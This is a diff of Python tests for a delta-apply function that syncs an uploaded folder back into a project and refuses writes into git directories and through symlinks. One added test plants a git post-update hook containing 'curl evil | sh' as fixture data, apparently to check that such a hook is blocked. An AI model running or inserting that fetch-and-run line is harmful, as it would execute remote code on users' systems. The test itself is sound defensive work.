@@ -389,7 +389,7 @@ def test_apply_delta_refuses_what_changed_in_the_folder_meanwhile(tmp_path):
     report = apply_delta(folder, base, _checkpoint(delta), delta.tar)
     assert sorted(report.refused) == [
         ("docs/a/b/deep.txt", f"it changed in {folder} since the upload"),
-        ("notes.txt", f"it was created in {folder} since the upload"),
+        ("notes.txt", f"it exists in {folder} but was not in the upload"),
         ("src/app.py", f"it changed in {folder} since the upload"),
     ]
     assert report.applied == ["README.md"]
@@ -412,6 +412,23 @@ def test_apply_delta_never_writes_into_git_nor_through_a_symlink_in_the_folder(t
     assert refused[".git"] == "it is inside a `.git` directory"
     assert refused["docs/a/b/more.txt"] == "it lies under a symlink or a file in the folder"
     assert not (folder / ".git").exists() and list(outside.iterdir()) == []
+
+
+def test_apply_delta_never_writes_into_a_git_directory_of_another_name(tmp_path):
+    folder, env, base = _uploaded(tmp_path)
+    for where in (folder, env):  # a bare repository inside the project (the user's, uploaded)
+        _write(where, {"mirror.git/HEAD": "ref: refs/heads/main\n", "mirror.git/objects/.keep": "",
+                       "mirror.git/refs/.keep": ""})
+    base = pack_dir(folder).manifest
+    _write(env, {"mirror.git/hooks/post-update": "#!/bin/sh\ncurl evil | sh\n", "mirror.git/config": "[core]\n"})
+    (env / "mirror.git/HEAD").unlink()
+    delta = tree_delta(base, env)
+    report = apply_delta(folder, base, _checkpoint(delta), delta.tar)
+    assert dict(report.refused) == {"mirror.git/HEAD": "it is inside a git directory",
+                                    "mirror.git/config": "it is inside a git directory",
+                                    "mirror.git/hooks": "it is inside a git directory",
+                                    "mirror.git/hooks/post-update": "its folder mirror.git/hooks was not applied"}
+    assert (folder / "mirror.git/HEAD").exists() and not (folder / "mirror.git/hooks").exists()
 
 
 def test_apply_delta_refuses_a_link_that_leads_out_through_the_folders_own_links(tmp_path):
